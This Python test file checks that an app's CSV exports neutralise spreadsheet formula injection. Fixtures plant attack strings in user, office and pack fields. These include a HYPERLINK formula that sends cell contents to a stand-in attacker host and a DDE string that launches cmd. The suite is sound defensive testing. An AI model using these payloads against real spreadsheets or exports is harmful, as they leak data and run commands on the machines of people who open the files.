"""CSV formula injection (issue 10 item 8, finding F8): one writer for every export, which neutralises text
that a spreadsheet would run as a formula, keeps our own numbers numbers, and streams.

Members could plant `=HYPERLINK(...)` in a pack's notes or status label (no permission needed) or in their
own name, and the master's export carried it raw into Excel or LibreOffice.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from creditdesk import csvexport
from creditdesk.credits import schemas as cs
from creditdesk.credits import credit_types, projects
from creditdesk.credits.packs import grant_pack
from creditdesk.parties import schemas as ps
from creditdesk.parties import service as parties
from creditdesk.parties.models import User
from tests.conftest import make_workspace
from tests.parties.factories import master_actor
from tests.sms.conftest import build_sms_world
from tests.web.conftest import PASSWORD, logged_in

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&B2&C2,"Open invoice")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
# Text that must never start a cell: the payloads of the probe, and the OWASP list.
PAYLOADS = [HYPERLINK, DDE, "+1", "-1+1", "\tx", "\rx", "=1+1", " =1+1"]
DANGEROUS = tuple("=+-@\t\r\n")


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def first_chars_are_safe(table: list[list[str]]) -> list[str]:
    """Cells of a parsed export that a spreadsheet would evaluate."""
    return [cell for row in table for cell in row if cell.lstrip(" ").startswith(DANGEROUS)]


# --- the writer ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS + ["\nx", "\uff1dSUM(1)", "\u00a0@x"])
def test_text_that_could_run_is_quoted(payload):
    assert csvexport.cell(payload) == "'" + payload


@pytest.mark.parametrize("text", ["plain", "", "a=b", "1+1", "x-1", "pack_01abc", "2026-01-15", "50%", "'quoted"])
def test_ordinary_text_is_unchanged(text):
    assert csvexport.cell(text) == text


def test_numbers_we_write_stay_numbers():
    assert [csvexport.cell(v) for v in (-5, 0, 12, Decimal("-1.50"), csvexport.amount(-5, 2),
                                        csvexport.amount(150, 2), csvexport.amount(7, 0), None)] == [
        "-5", "0", "12", "-1.50", "-0.05", "1.50", "7", ""]


def test_the_writer_streams_in_chunks_and_round_trips():
    rows = ([str(i), HYPERLINK, -i, csvexport.amount(i, 2), "a,b\n\"c\""] for i in range(450))
    chunks = list(csvexport.stream(["n", "text", "neg", "amount", "quoted"], rows, flush_rows=200))
    assert len(chunks) == 3 and all(isinstance(c, bytes) for c in chunks)
    table = parse(b"".join(chunks).decode())
    assert table[0] == ["n", "text", "neg", "amount", "quoted"]
    assert len(table) == 451
    assert table[5] == ["4", "'" + HYPERLINK, "-4", "0.04", "a,b\n\"c\""]
    assert b"".join(chunks).count(b"\r\n") >= 451


def test_response_is_a_streamed_download_with_a_safe_file_name():
    response = csvexport.response(["a"], iter([["=1"]]), filename='logs-"x"\r\n.csv')
    assert isinstance(response, csvexport.StreamingResponse)
    assert response.headers["content-disposition"] == 'attachment; filename="logs-_x___.csv"'
    assert response.headers["cache-control"] == "no-store"


# --- every export, with payloads planted where low-privilege users can put them -----------------------

@pytest.fixture
def planted(db):
    """A workspace whose user names, customer, office, project and pack texts hold formula payloads, with SMS
    movements between users whose names are payloads. Returns (workspace, master email)."""
    ws = make_workspace(db, name="Formula injection")
    world = build_sms_world(db, ws.id)
    master = master_actor(db, ws.id)

    def fn(session):
        rename = {"master": HYPERLINK, "Ann": DDE, "Ben": "+1", "Mia": "-1+1"}
        for who, name in rename.items():
            parties.update_user(session, world.ids[who], ps.UserUpdate(name=name), actor=master)
        customer = parties.create_customer(session, ps.CustomerCreate(name="=1+1"), actor=master)
        office = parties.create_office(session, ps.OfficeCreate(name=DDE, customer_id=customer.id), actor=master)
        credit_types.create_credit_type(session, cs.CreditTypeCreate(code="hours", name="Hours", scale=2), actor=master)
        for i, payload in enumerate(PAYLOADS):
            pack = grant_pack(session, cs.PackCreate(
                holder=cs.Holder(kind="office", id=office.id), credit_type="hours", quantity=1000 + i,
                name=payload, notes=payload, status_label=payload, external_ref=f"{payload}-{i}",
                # (refs are keys: '\tx' and '\rx' both strip to 'x', hence the suffix)
                relationship_manager_id=world.ids["Ann"]), actor=master)
            # The schemas strip leading whitespace; rows stored otherwise (older rows, an import) need not be.
            pack.notes = pack.status_label = payload
        projects.create_project(session, cs.ProjectCreate(name="+1", office_id=office.id), actor=master)
        return session.scalar(select(User.email).where(User.id == world.ids["master"]))

    email = db.write(fn)
    world.buy("master", "workspace", None, 50)
    world.buy("master", "user", "Ann", 20)
    world.move("master", "pool", "Ben", 5)
    world.move("master", "Ann", "Mia", 3)
    return ws, email


def check_export(response, *, expected: list[str]) -> list[list[str]]:
    assert response.status_code == 200, response.text[:500]
    assert response.headers["content-type"].startswith("text/csv")
    assert "content-length" not in response.headers  # streamed, not built whole
    table = parse(response.text)
    assert len(table) > 1
    assert first_chars_are_safe(table) == []
    cells = {cell for row in table for cell in row}
    for payload in expected:  # the payloads did reach the export, neutralised
        assert "'" + payload in cells, (payload, table[:3])
    return table


def test_pack_report_export(planted, app):
    ws, email = planted
    with TestClient(app) as client:
        logged_in(client, email)
        table = check_export(client.get("/credits/export.csv", params={"credit_type": "hours", "sort": "name"}),
                             expected=PAYLOADS + ["=1+1"])
    header = table[0]
    originals = sorted(row[header.index("original")] for row in table[1:])
    assert originals == [f"{10 + i // 100}.{i % 100:02d}" for i in range(len(PAYLOADS))]  # 10.00 .. 10.07


def test_activity_export(planted, app):
    ws, email = planted
    with TestClient(app) as client:
        logged_in(client, email)
        check_export(client.get("/activity/export.csv"), expected=[HYPERLINK])


def test_api_sms_logs_export(planted, client):
    ws, _ = planted
    check_export(client.get("/v1/sms/logs.csv", headers=ws.headers), expected=[HYPERLINK, DDE, "+1", "-1+1"])


def test_back_office_sms_logs_export(planted, app):
    ws, email = planted
    with TestClient(app) as client:
        logged_in(client, email)
        check_export(client.get("/sms/logs.csv"), expected=[HYPERLINK, DDE, "+1", "-1+1"])


def test_every_export_handler_uses_the_one_writer():
    """No export builds its own csv.writer: a fifth export added the old way would escape the rule."""
    import inspect

    from creditdesk.api.routes import sms as api_sms
    from creditdesk.web import activity, packs
    from creditdesk.web import sms as web_sms

    for module in (api_sms, activity, packs, web_sms):
        source = inspect.getsource(module)
        assert "csv.writer" not in source, module.__name__


def test_a_byte_order_mark_only_when_asked():
    from creditdesk import csvexport

    plain = b"".join(csvexport.stream(["name"], [["Zoë"]]))
    marked = b"".join(csvexport.stream(["name"], [["Zoë"]], bom=True))
    assert plain == "name\r\nZoë\r\n".encode() and marked == b"\xef\xbb\xbf" + plain
